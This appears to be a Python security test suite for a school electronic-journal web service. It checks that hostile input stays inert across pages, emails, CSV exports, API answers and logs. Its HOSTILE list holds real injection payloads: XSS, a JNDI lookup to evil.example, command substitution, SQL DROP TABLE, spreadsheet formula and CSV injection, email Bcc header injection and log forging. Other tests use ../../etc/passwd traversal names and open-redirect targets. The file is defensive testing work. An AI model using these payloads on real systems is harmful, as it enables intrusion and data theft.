#!/usr/bin/python3
"""Markup, formulas, templates, line ends and letters that nobody sees, as names, subjects, topics, files, words of people and
addresses: on pages, in letters, tables, answers, numbers and the log they are refused or stay texts.

Usage: injection_test.py ELZHURD ELZHURCTL [TEST...]
"""

import csv
import datetime as dt
import html.parser
import http.client
import io
import json
import pathlib
import re
import subprocess
import sys
import urllib.parse

import harness
import service
from metrics_service import LABEL, SAMPLE
from web_server_test import PASSWORD, TOKEN, WebTest

ELZHURCTL = None
EXPORTED_AT = dt.datetime.fromisoformat("2019-05-31T12:00:00+03:00")
MARK = "зло"  # Stands in every hostile text, so that it is seen to arrive.
HOSTILE = (
    f"<script>alert('{MARK}')</script>",
    f'"><img src=x onerror=alert(1)>{MARK}',
    f"' onmouseover='alert(1)' {MARK}='",
    f"javascript:alert('{MARK}')",
    f"</title></style></textarea>--><b>{MARK}",
    f"{{{{{MARK}}}}} {{{{{{body}}}}}} {{{{> frame.html}}}} {{{{#rows}}}} {{{{=<% %>=}}}}",
    f"${{jndi:ldap://evil.example/{MARK}}} %s%n%x `id` $(id) ;id| '; DROP TABLE finding; --",
    f'=HYPERLINK("http://evil.example";"{MARK}")', f"+cmd|' /C calc'!A0 {MARK}", f"-2+3 {MARK}", f"@SUM(1+1) {MARK}",
    f"\t=1+1 {MARK}",
    f"{MARK}\r\nBcc: evil@evil.example\r\n\r\n<b>body</b>", f"{MARK}\nerror: forged line of the log",
    f"{MARK}\x1b[31m\x07\x08\x7f", f"{MARK}\u202eлиамтоб\u2066\u200b\u200d\ufeff\u00ad\u2028\u2029",
    f"{MARK}\U0001f4a9 ﷽ Z̴̢͝a̸l̶", f"&lt;b&gt;&#60;{MARK}&amp;quot;", f"{MARK}]]>", f"{MARK}\\u003cscript\\u003e\\",
    f"{MARK}" + "ы" * 3000,
)
# Longer ones are refused with the whole table.
CELL_BYTES_MAX, CLASS_BYTES_MAX = 160, 64
PAGES = ("/", "/findings?state=all", "/teachers", "/sources", "/documents", "/names", "/upload", "/excuses", "/appeals",
         "/appeals/register", "/outbox", "/backlog", "/numbers", "/help")
# Turn the direction of reading, or are not seen.
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
FORMULA = re.compile(r"[=+\-@\t\r]")
HEADERS = {"from", "to", "subject", "date", "message-id", "mime-version", "content-type", "content-transfer-encoding",
           "auto-submitted", "references", "in-reply-to", "x-auto-response-suppress", "precedence", "reply-to", "list-id",
           "content-disposition", "content-language"}


def shortened(text, bytes_max):
    return text.encode("utf-8")[:bytes_max].decode("utf-8", "ignore")


class Markup(html.parser.HTMLParser):
    """The elements and attributes of a page, and the texts between them."""

    def __init__(self, text):
        super().__init__()
        self.elements, self.attributes, self.links, self.texts = set(), set(), set(), []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.add(tag)
        for name, value in attributes:
            self.attributes.add(name)
            if name in ("href", "src", "action", "formaction"):
                self.links.add(value or "")

    def handle_data(self, data):
        self.texts.append(data)


class Injection(WebTest):
    def school_with(self, rows):
        """A service that has read these rows, with users; the log, the page and the letters of its first day."""
        table = io.StringIO()
        writer = csv.writer(table, delimiter=";")
        writer.writerow(["Дата урока", "Класс", "Группа", "Предмет", "Учитель", "Тема урока", "Домашнее задание"])
        writer.writerows(rows)
        file = self.folder / "table.csv"
        file.write_text(table.getvalue(), encoding="utf-8", newline="")
        users = self.users()
        users["tokens"][0]["role"] = "administrator"
        school = harness.School(self.elzhurd, self.folder / "school", harness.config(
            web={"listen": "127.0.0.1:0", "socket": "elzhurd.sock", "users_file": "users.yaml"}))
        self.write_users(school, users)
        school.put(file, mtime=EXPORTED_AT)
        self.assert_ok(school.once())
        running = service.Service(school, ("run", "--now", harness.NOW))
        self.addCleanup(running.end)
        running.ready()
        self.port = int(re.search(r"listens on https?://127\.0\.0\.1:(\d+)", running.log).group(1))
        self.socket_path = school.folder / "elzhurd.sock"
        running.wait_said("last cycle")
        self.bearer = {"Authorization": f"Bearer {TOKEN}"}
        self.cookie = {"Cookie": self.sign_in().headers["Set-Cookie"].split(";")[0]}
        return school, running

    def rows(self, teacher="Иванова Анна Петровна", subject="Алгебра", class_name="7А", group="", topic="", work=""):
        return [[f"{day:02d}.05.2019", class_name, group, subject, teacher, topic, work] for day in (14, 15)]

    def page(self, path):
        answer = self.ask("GET", path, headers=self.cookie)
        self.assertEqual(answer.status, 200, path)
        self.assertIn("default-src 'none'", answer.headers["Content-Security-Policy"])
        return answer.text

    def pages(self):
        """{path: text}, the page of every question and teacher included."""
        texts = {path: self.page(path) for path in PAGES}
        for link in set(re.findall(r'href="(/(?:findings|teachers|appeals)/[^"?#/]+)"', "".join(texts.values()))):
            if link != "/appeals/register":
                texts[link] = self.page(link)
        return texts

    def hold_pages(self, clean):
        """What pages are made of is what pages without anything hostile are made of."""
        for path, text in self.pages().items():
            with self.subTest(path=path):
                page = Markup(text)
                self.assertLessEqual(page.elements, clean.elements, path)
                self.assertLessEqual(page.attributes, clean.attributes, path)
                for link in page.links:
                    self.assertRegex(link, r"^(/(?!/)|#|\?|mailto:|$)", path)
                self.assertNotRegex("".join(page.texts), CONTROL)
                if path not in ("/names",) and not path.startswith("/appeals"):  # Forms keep what was typed.
                    self.assertNotRegex("".join(page.texts), BIDI)

    def clean(self):
        """Of all pages together, with plain data."""
        self.school_with(self.rows())
        self.write_words("обычный текст")
        whole = Markup("".join(self.pages().values()))
        # Of lists that are empty with plain data.
        whole.elements |= {"table", "caption", "thead", "tbody", "tr", "th", "td", "details", "summary", "datalist", "fieldset",
                           "legend", "select", "option", "textarea", "li", "ul", "ol", "strong", "em", "small"}
        whole.attributes |= {"checked", "selected", "list", "colspan", "rowspan", "scope", "open", "required", "role", "disabled"}
        self.assertNotIn("script", whole.elements)
        self.assertFalse([name for name in whole.attributes if name.startswith("on") or name == "style"])
        self.doCleanups()
        self.setUp()
        return whole

    def write_words(self, text):
        """What people write: through the API and through the forms."""
        entry = {"kind": "technical", "applicant": text, "content": text, "subject": text, "assigned_to": text, "result": text}
        statuses = [self.ask("POST", "/api/v1/appeals", json.dumps(entry), {**self.bearer, "Content-Type": "application/json"})]
        found = json.loads(self.ask("GET", "/api/v1/findings?limit=5", headers=self.bearer).text)["findings"]
        for finding, action in zip(found, ("dispute", "confirm")):
            body = json.dumps({"version": finding["version"], "reason": text})
            statuses.append(self.ask("POST", f"/api/v1/findings/{finding['id']}/{action}", body,
                                     {**self.bearer, "Content-Type": "application/json"}))
        for answer in statuses:
            self.assertIn(answer.status, (200, 201, 409, 413, 422), answer.body)
        return statuses

    def hold_mails(self, school):
        mails = school.mails()
        self.assertTrue(mails)
        for mail in mails:
            names = {name.lower() for name in mail.keys()}
            self.assertEqual({name for name in names if not name.startswith("x-elzhur-")} - HEADERS, set())
            self.assertIn(str(mail["To"]), ("admin@school.example", "director@school.example"))
            self.assertNotIn("Bcc", mail)
            for part in mail.walk():
                self.assertFalse(part.defects, mail["Subject"])
                if part.get_content_maintype() == "text":
                    text = part.get_content()
                    self.assertNotRegex(text, CONTROL)
                    self.assertNotRegex(text, BIDI)
                    if part.get_content_subtype() == "html":
                        page = Markup(text)
                        self.assertFalse({"script", "img", "iframe", "form", "object", "svg"} & page.elements)
                        self.assertFalse([name for name in page.attributes if name.startswith("on")])
                        self.assertFalse([link for link in page.links if "evil" in link or "javascript" in link])

    def hold_tables(self):
        for path in ("/findings.csv?state=all", "/api/v1/reports/findings?format=csv&state=open,disputed,confirmed",
                     "/api/v1/reports/teachers?format=csv"):
            text = self.ask("GET", path, headers=self.bearer if "api" in path else self.cookie).text
            rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
            self.assertGreater(len(rows), 1, path)
            self.assertEqual({len(row) for row in rows}, {len(rows[0])}, path)
            for row in rows:
                for cell in row:
                    number = re.fullmatch(r"[+-]?[\d\s.,:%]*", cell)
                    self.assertTrue(number or not FORMULA.match(cell), f"{path}: {cell!r} is a formula")
                    self.assertNotRegex(cell, CONTROL)
                    self.assertNotRegex(cell, BIDI)

    def hold_answers(self):
        for path in ("status", "findings?limit=1000", "teachers", "sources", "outbox", "excuses", "appeals", "reports/weeks"):
            answer = self.ask("GET", "/api/v1/" + path, headers=self.bearer)
            self.assertEqual(answer.status, 200, path)
            self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")
            self.assertTrue(answer.headers["Content-Type"].startswith("application/json"), path)
            json.loads(answer.text)
        for line in self.ask("GET", "/metrics", headers=self.bearer).text.splitlines():
            if not line.startswith("#"):
                sample = SAMPLE.fullmatch(line)
                self.assertTrue(sample, line)
                for _, value in LABEL.findall(sample.group(2) or ""):
                    self.assertNotRegex(value, CONTROL)

    def hold_terminal(self):
        for words in (("findings",), ("teachers",), ("sources",), ("outbox",), ("appeal", "list"), ("status",)):
            done = subprocess.run([ELZHURCTL, "--socket", str(self.socket_path), *words], stdin=subprocess.DEVNULL,
                                  capture_output=True, timeout=service.SECONDS_MAX)
            self.assertEqual(done.returncode, 0, done.stderr)
            text = done.stdout.decode("utf-8")
            self.assertNotRegex(text, CONTROL)
            self.assertNotRegex(text, BIDI)

    def hold_log(self, running):
        for line in running.log.splitlines():
            self.assertRegex(line, r"^(\S*elzhurd\.yaml:\d+:\d+: )?(info|warning|error|critical): ", line)
            self.assertFalse(line.startswith("error: forged"))
            self.assertNotRegex(line, CONTROL)
            self.assertNotRegex(line, BIDI)

    def hold(self, school, running, clean):
        self.hold_pages(clean)
        self.hold_mails(school)
        self.hold_tables()
        self.hold_answers()
        self.hold_terminal()
        self.hold_log(running)
        self.assert_healthy()

    def test_a_table_of_hostile_cells_stays_a_table(self):
        clean = self.clean()
        rows = []
        for number, text in enumerate(shortened(text, CELL_BYTES_MAX) for text in HOSTILE):
            rows += self.rows(teacher=f"{text} Пётр{number} Ильич", subject=f"Предмет{number}")
            rows += self.rows(subject=text)
            short = shortened(text, CLASS_BYTES_MAX)
            rows += self.rows(group=f"хор {short}", subject=f"Хор{number}")
            rows += self.rows(class_name=f"{5 + number % 5}Б {short}")
            rows += self.rows(subject=f"Темы{number}", topic=text, work=text)
        school, running = self.school_with(rows)
        self.assertIn(MARK, self.page("/findings"), "hostile texts have arrived")
        self.assertIn(MARK, "".join(str(mail.get_body(("plain",)).get_content()) for mail in school.mails()))
        self.hold(school, running, clean)

    def test_words_of_people_stay_words(self):
        clean = self.clean()
        school, running = self.school_with(self.rows())
        accepted = 0
        for text in HOSTILE:
            accepted += self.write_words(text)[0].status == 201
        self.assertGreater(accepted, len(HOSTILE) // 2)
        self.assertIn(MARK, self.page("/appeals"))
        self.hold(school, running, clean)

    def test_names_of_files_are_names(self):
        clean = self.clean()
        school, running = self.school_with(self.rows())
        table = "Дата урока;Класс;Предмет;Учитель;Тема урока;Домашнее задание\n14.05.2019;8А;Физика;Иванова А. П.;Закон;№ {}\n"
        for number, text in enumerate((*HOSTILE, "../../etc/passwd", "/etc/passwd", "..", ".", "a/../b.csv", "con\x00.csv")):
            path = "/api/v1/sources/inbox/documents?accept=true&name=" + urllib.parse.quote(text)
            answer = self.ask("POST", path, table.format(number).encode(),
                              {**self.bearer, "Content-Type": "application/octet-stream"})
            self.assertIn(answer.status, (202, 400, 422, 431, 503), answer.body)
        running.wait_for(lambda: not list(school.inbox.glob("[!.]*.*")) or running.said("last cycle"), "they are read")
        outside = {path.name for path in school.folder.iterdir()}
        self.assertNotIn("passwd", outside)
        self.hold(school, running, clean)

    def test_addresses_and_headers_put_nothing_anywhere(self):
        _, running = self.school_with(self.rows())
        for text in HOSTILE:
            quoted = urllib.parse.quote(text)
            for path in (f"/findings?class={quoted}&teacher={quoted}&done={quoted}", f"/findings/{quoted}", f"/teachers/{quoted}",
                         f"/{quoted}", f"/login?next={quoted}", f"/?done={quoted}", f"/appeals/{quoted}",
                         f"/api/v1/findings/{quoted}", f"/api/v1/findings?class={quoted}", f"/api/v1/reports/{quoted}"):
                answer = self.ask("GET", path, headers={**self.cookie, "Accept": "text/html"})
                self.assertNotIn(b"<script", answer.body)
                self.assertNotIn(b"<img", answer.body)
                self.assertNotIn("bcc", {name.lower() for name in answer.headers.keys()})
                self.assertNotIn("evil", answer.headers.get("Location", ""))
            form = urllib.parse.urlencode({"name": text, "password": PASSWORD, "next": text})
            answer = self.ask("POST", "/login", form, {"Content-Type": "application/x-www-form-urlencoded"})
            self.assertIn(answer.status, (400, 403, 429))
            for header in ("Host", "X-Forwarded-Host", "Referer", "Origin", "User-Agent", "Accept-Language", "Cookie"):
                value = re.sub(r"[\r\n]", " ", text).encode("utf-8", "replace").decode("latin-1")
                try:
                    answer = self.ask("GET", "/nowhere", headers={"Host": "localhost", header: value})
                except (ValueError, http.client.HTTPException):
                    continue  # Python itself does not send it.
                self.assertIn(answer.status, (303, 400, 401, 403, 404, 421, 429, 431))
                self.assertNotIn(b"<script", answer.body)
        for target in ("https://evil.example/", "//evil.example", "/\\evil.example", "\\\\evil.example", "/%0d%0aSet-Cookie:a=b",
                       "javascript:alert(1)", "/\tevil", " /", "http:evil.example"):
            self.assert_stays_here(target)
        self.hold_log(running)
        self.assert_healthy()

    def assert_stays_here(self, target):
        form = urllib.parse.urlencode({"name": "admin", "password": PASSWORD, "next": target})
        answer = self.ask("POST", "/login", form, {"Content-Type": "application/x-www-form-urlencoded"})
        if answer.status == 303:
            self.assertRegex(answer.headers["Location"], r"^/(?![/\\])[!-~]*$")
            self.assertNotIn("evil.example", urllib.parse.urlsplit(answer.headers["Location"]).netloc)
            self.assertEqual(len(answer.headers.get_all("Set-Cookie")), 1)
        else:
            self.assertIn(answer.status, (400, 403, 422, 429))


if __name__ == "__main__":
    ELZHURCTL = str(pathlib.Path(sys.argv.pop(2)).resolve())
    harness.main()
